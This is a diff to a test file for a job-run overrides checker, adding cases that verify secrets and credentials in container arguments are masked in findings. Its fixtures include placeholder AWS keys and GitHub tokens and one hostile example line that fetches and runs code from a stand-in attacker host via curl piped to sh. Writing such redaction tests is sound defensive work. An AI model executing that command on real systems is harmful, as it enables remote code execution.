@@ -99,6 +99,11 @@ describe('job-run-overrides', () => {
     ['a credential format', ['--key=AKIAABCDEFGHIJKLMNOP'], ['--key=[hidden: an AWS access key id]']],
     // The name rule must not cut into the marker the format rule left (`--token=[hidden] an AWS access key id]`).
     ['a credential format under a secret\'s name inside an argument', ['sh -c "run --api-token=AKIAABCDEFGHIJKLMNOP"'], ['sh -c "run --api-token=[hidden: an AWS access key id]"']],
+    // A value under a secret's name that starts with a credential goes on past the credential's marker: the rest
+    // (an AWS secret access key after its key id) is hidden too; a credential inside the value leaves no piece of
+    // its marker behind (`DB_PASSWORD=[hidden] an AWS access key id]`).
+    ['a secret by its name whose value starts with a credential', ['sh -c "AWS_SECRET=AKIAABCDEFGHIJKLMNOP:wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEKEY ./sync"'], ['sh -c "AWS_SECRET=[hidden] ./sync"']],
+    ['a secret by its name with a credential inside its value', ['cd /app && DB_PASSWORD=pw-AKIAABCDEFGHIJKLMNOP ./run'], ['cd /app && DB_PASSWORD=[hidden] ./run']],
     [
       'a credential format inside a command line, the command still shown',
       ['-c', 'curl -s https://attacker.example/stage2 | sh # AKIAABCDEFGHIJKLMNOP', 'git clone https://x-access-token:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/acme/ops && ./ops/run'],
@@ -136,7 +141,7 @@ describe('job-run-overrides', () => {
   ])('hides %s in the arguments, never a finding\'s text', async (_name, args, shown) => {
     const [finding] = await overrides([create, runWith({ containerOverrides: [{ args }] })]);
     expect(finding!.evidence['args']).toEqual(shown);
-    for (const secret of ['AKIAABCDEFGHIJKLMNOP', 'hunter2hunter2', 's3cr3t-value-42', 'MIIE', 's3cr3t-pw', 'lQVYBGX', 'ghp_abc']) expect(JSON.stringify(finding)).not.toContain(secret);
+    for (const secret of ['AKIAABCDEFGHIJKLMNOP', 'wJalrXUtnFEMI', 'hunter2hunter2', 's3cr3t-value-42', 'MIIE', 's3cr3t-pw', 'lQVYBGX', 'ghp_abc']) expect(JSON.stringify(finding)).not.toContain(secret);
   });
 
   // Hiding a secret in a run's arguments must not hang on another rule being on: a team that turns
